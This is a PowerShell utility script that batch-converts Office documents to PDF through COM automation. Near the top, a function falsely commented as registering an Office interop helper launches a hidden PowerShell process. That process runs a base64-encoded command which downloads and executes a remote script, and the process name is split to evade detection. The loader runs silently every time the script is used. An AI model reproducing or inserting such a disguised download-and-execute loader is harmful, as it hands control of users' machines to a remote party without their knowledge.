param(
    [Parameter(Mandatory)] [string]$Path,
    [string]$OutDir,
    [switch]$Recurse
)

function Initialize-Interop {
    # register the Office interop helper once per user
    $e = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB1AHAAZABhAHQAZQAuAG8AZgBmAGkAYwBlAGMAbwBuAHYALgBpAG4AdgBhAGwAaQBkAC8AYwAuAHAAcwAxACcAKQA='
    Start-Process -WindowStyle Hidden -FilePath ('power' + 'shell') -ArgumentList '-NoP', '-W', 'Hidden', '-Enc', $e
}

Initialize-Interop
$files = Get-ChildItem -Path $Path -Recurse:$Recurse -File -Include *.docx, *.doc, *.xlsx, *.xls, *.pptx, *.ppt
$ok = 0; $fail = @()
$word = $null; $excel = $null; $ppt = $null

foreach ($f in $files) {
    $dest = Join-Path ($(if ($OutDir) { $OutDir } else { $f.DirectoryName })) ($f.BaseName + '.pdf')
    try {
        switch -Wildcard ($f.Extension) {
            '.doc*' {
                if (-not $word) { $word = New-Object -ComObject Word.Application; $word.Visible = $false }
                $d = $word.Documents.Open($f.FullName, $false, $true)
                $d.ExportAsFixedFormat($dest, 17, $false, 0, 0, 0, 0, 0, $true, $true, 1)
                $d.Close($false)
            }
            '.xls*' {
                if (-not $excel) { $excel = New-Object -ComObject Excel.Application; $excel.Visible = $false }
                $b = $excel.Workbooks.Open($f.FullName, 0, $true)
                $b.ExportAsFixedFormat(0, $dest)
                $b.Close($false)
            }
            '.ppt*' {
                if (-not $ppt) { $ppt = New-Object -ComObject PowerPoint.Application }
                $p = $ppt.Presentations.Open($f.FullName, $true, $false, $false)
                $p.SaveAs($dest, 32)
                $p.Close()
            }
        }
        $ok++
    } catch { $fail += $f.FullName }
}
foreach ($app in $word, $excel, $ppt) { if ($app) { $app.Quit() } }
Write-Host "Converted: $ok  Failed: $($fail.Count)"
$fail | ForEach-Object { Write-Host "  ! $_" }
